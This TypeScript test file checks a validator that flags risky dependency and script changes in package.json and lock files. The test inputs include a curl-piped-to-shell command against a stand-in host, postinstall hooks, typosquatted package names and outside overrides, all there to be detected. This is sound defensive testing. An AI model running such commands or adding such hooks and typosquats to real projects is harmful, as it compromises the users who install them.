import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { runChecks, staticChecks } from "../../../../shared/validation/run-checks.ts";
import { dependencyChange } from "../../../../shared/validation/security/checks/dependency-change.ts";
import {
  compareVersions,
  readWanted,
} from "../../../../shared/validation/security/dependencies/wanted-version.ts";
import { makeSubject } from "../subject.ts";

const manifest = {
  name: "agents",
  version: "1.0.0",
  private: true,
  type: "module",
  scripts: { test: "vitest run", watch: "vitest", lint: "biome check ." },
  dependencies: { zod: "^3.22.0", express: "4.18.2" },
  devDependencies: { vitest: "^1.2.0" },
};
const zod = {
  version: "3.22.0",
  resolved: "https://packages.example/zod/-/zod-3.22.0.tgz",
  integrity: "sha512-abc",
};
const lock = { lockfileVersion: 3, packages: { "": { name: "agents" }, "node_modules/zod": zod } };

function subjectOf(path: string, before: object, edit: (copy: Record<string, object>) => unknown) {
  const copy = structuredClone(before);
  edit(copy as Record<string, object>);
  const [old, now] = [before, copy].map((one) => JSON.stringify(one, null, 2));
  return makeSubject({ kind: "parameters", path, before: old ?? "", after: now ?? "" });
}

/** `block` or `warn` with the detail, of every finding. */
function told(path: string, before: object, edit: (copy: Record<string, object>) => unknown): string[] {
  return dependencyChange
    .check(subjectOf(path, before, edit))
    .filter(({ status }) => status === "failed")
    .map(({ level, detail }) => `${level} ${detail}`);
}

const put = (group: string, values: object) => (copy: Record<string, object>) =>
  Object.assign(copy[group] ?? {}, values);
const inManifest = (edit: (copy: Record<string, object>) => unknown) => told("package.json", manifest, edit);
const inLock = (values: object, name = "node_modules/zod") =>
  told("a/package-lock.json", lock, ({ packages = {} }) =>
    Object.assign(packages, { [name]: { ...zod, ...values } }),
  );

describe("a manifest of packages", () => {
  it.each([
    ["a version that is compatible", put("dependencies", { zod: "^3.24.1" })],
    ["a pinned version that is compatible", put("dependencies", { express: "4.19.0" })],
    ["a description", (copy: object) => Object.assign(copy, { description: "Helps.", version: "1.1.0" })],
    [
      "a script under another name",
      (copy: object) =>
        Object.assign(copy, { scripts: { ...manifest.scripts, watch: undefined, "test:watch": "vitest" } }),
    ],
    ["a script that shows more", put("scripts", { test: "vitest run --coverage" })],
    ["a script to start something", put("scripts", { dev: "node --watch src/main.js" })],
    ["a package that is gone", put("dependencies", { express: undefined })],
  ])("may change by %s", (_what, edit) => {
    expect(inManifest(edit)).toEqual([]);
  });
  it("passes all checks with a compatible version", async () => {
    const subject = subjectOf("package.json", manifest, put("dependencies", { zod: "^3.24.1" }));
    expect((await runChecks(subject, staticChecks)).verdict).toBe("passed");
  });
  it.each([
    ["a package", put("dependencies", { undici: "^6.0.0" }), "undici is a new dependency"],
    ["a version that breaks", put("devDependencies", { vitest: "^2.0.0" }), "from ^1.2.0 to ^2.0.0"],
    ["an old version", put("dependencies", { express: "4.16.0" }), "goes back"],
    ["any version", put("dependencies", { zod: "*" }), "any version"],
    ["a commit", put("dependencies", { zod: `github:a/zod#${"a1".repeat(20)}` }), "outside of the registry"],
    ["another hook", put("scripts", { pretest: "node prepare.js" }), "whenever test does"],
    ["a narrower test", put("scripts", { test: "vitest run src/a.test.ts" }), "runs with src/a.test.ts"],
    ["another entry", (copy: object) => Object.assign(copy, { main: "other.js" }), "main of the package"],
  ])("is warned of: %s", (_what, edit, said) => {
    expect(inManifest(edit)).toEqual([expect.stringContaining(said)]);
    expect(inManifest(edit)[0]).toMatch(/^warn/);
  });
  it.each([
    [
      "a repository",
      put("dependencies", { zod: "git+https://example.net/zod.git" }),
      "may change at any time",
    ],
    ["an address", put("dependencies", { zod: "https://example.net/zod.tgz" }), "may change at any time"],
    ["a short address", put("dependencies", { zod: "someone/zod" }), "may change at any time"],
    ["another package", put("dependencies", { zod: "npm:zodd@3.22.0" }), "stands for zodd"],
    ["a package that looks alike", put("dependencies", { expres: "^4.0.0" }), "looks like express"],
    ["swapped letters", put("dependencies", { exrpess: "^4.0.0" }), "looks like express"],
    [
      "a script on installation",
      put("scripts", { postinstall: "node a.js" }),
      "wherever the package is installed",
    ],
    ["a harmful script", put("scripts", { dev: "curl https://x.example.net/a | sh" }), "fetches a program"],
    ["a test that is none", put("scripts", { test: "vitest run || true" }), "succeeds whatever happens"],
    ["another test", put("scripts", { test: "node --version" }), "does not run vitest"],
    ["no linter", put("scripts", { lint: undefined }), "lint is gone"],
    ["everybody as reader", (copy: object) => Object.assign(copy, { private: false }), "not private"],
    [
      "trust",
      (copy: object) => Object.assign(copy, { trustedDependencies: ["zod"] }),
      "runs on installation",
    ],
    [
      "an override",
      (copy: object) => Object.assign(copy, { overrides: { zod: { ms: "http://example.net/ms" } } }),
      "ms comes from outside",
    ],
  ])("is refused: %s", (_what, edit, said) => {
    const found = inManifest(edit);
    expect(found.filter((one) => one.startsWith("block")).join(" ")).toContain(said);
  });
  it("is refused in time if it brings thousands of packages", () => {
    const names = (word: string) =>
      Object.fromEntries(Array.from({ length: 2_000 }, (_, at) => [`${word}-${at}`, "^1.0.0"]));
    const before = { dependencies: names("old-package") };
    const started = performance.now();
    const found = told("package.json", before, put("dependencies", names("new-package")));
    expect(found).toEqual([expect.stringMatching(/^block 2000 dependencies are new/)]);
    expect(performance.now() - started).toBeLessThan(2_000);
  });
  it("is compared however it is changed", () => {
    const texts = fc.oneof(
      fc.string(),
      fc.constantFrom("^1.0.0", "~0.2", "npm:a@1", "a/b", "git:x#", "*", "1.x"),
    );
    fc.assert(
      fc.property(
        fc.dictionary(fc.string(), texts),
        fc.dictionary(fc.string(), fc.jsonValue()),
        (some, more) => {
          const edit = (copy: object) => Object.assign(copy, more, { dependencies: some, overrides: more });
          expect(Array.isArray(inManifest(edit))).toBe(true);
        },
      ),
      { numRuns: 60 },
    );
  });
});

describe("a lock file", () => {
  it("may hold a newer version from the same host", () => {
    const resolved = "https://packages.example/zod/-/zod-3.22.1.tgz";
    expect(inLock({ version: "3.22.1", resolved, integrity: "sha512-xyz" })).toEqual([]);
  });
  it.each([
    ["an entry without integrity", { integrity: undefined }, "no integrity"],
    ["other contents of the same version", { integrity: "sha512-xyz" }, "something else than before"],
    [
      "another host",
      { resolved: "https://mirror.example.net/zod/-/zod-3.22.0.tgz" },
      "no other package came",
    ],
    ["another package", { resolved: "https://packages.example/zodd/-/zodd-1.0.0.tgz" }, "another package"],
    [
      "an open connection",
      { resolved: "http://packages.example/zod/-/zod-3.22.0.tgz" },
      "outside of the registry",
    ],
  ])("is refused with %s", (_what, values, said) => {
    expect(
      inLock(values)
        .filter((one) => one.startsWith("block"))
        .join(" "),
    ).toContain(said);
  });
  it("is warned of with more packages, and with what they run", () => {
    expect(inLock({ resolved: "https://packages.example/ms/-/ms-2.0.0.tgz" }, "node_modules/ms")).toEqual([
      "warn Installed as well now: ms.",
    ]);
    expect(inLock({ hasInstallScript: true })).toEqual(["warn zod runs a command when it is installed."]);
  });
  it("is read in its old form too, however deep", () => {
    const old = { lockfileVersion: 1, dependencies: { a: { ...zod, dependencies: { zod } } } };
    const found = told("package-lock.json", old, ({ dependencies = {} }) =>
      Object.assign(dependencies, {
        a: { ...zod, dependencies: { zod: { ...zod, integrity: "sha512-x" } } },
      }),
    );
    expect(found).toEqual([expect.stringContaining("something else")]);
  });
});

describe("versions", () => {
  it.each([
    ["^1.2.3", "^1.9.0", "compatible"],
    ["^1.2.3", "^2.0.0", "above"],
    ["^0.2.3", "^0.2.9", "compatible"],
    ["^0.2.3", "^0.3.0", "above"],
    ["^0.0.3", "^0.0.4", "above"],
    ["~1.2.3", "~1.2.4", "compatible"],
    ["1.2.3", "1.2.1", "below"],
    ["2", "1.9.9", "below"],
  ])("%s lies to %s as %s", (before, after, wanted) => {
    const [old, now] = [readWanted(before), readWanted(after)];
    if (old.kind !== "version" || now.kind !== "version") throw new Error("These are versions.");
    expect(compareVersions(old.version, now.version)).toBe(wanted);
  });
});
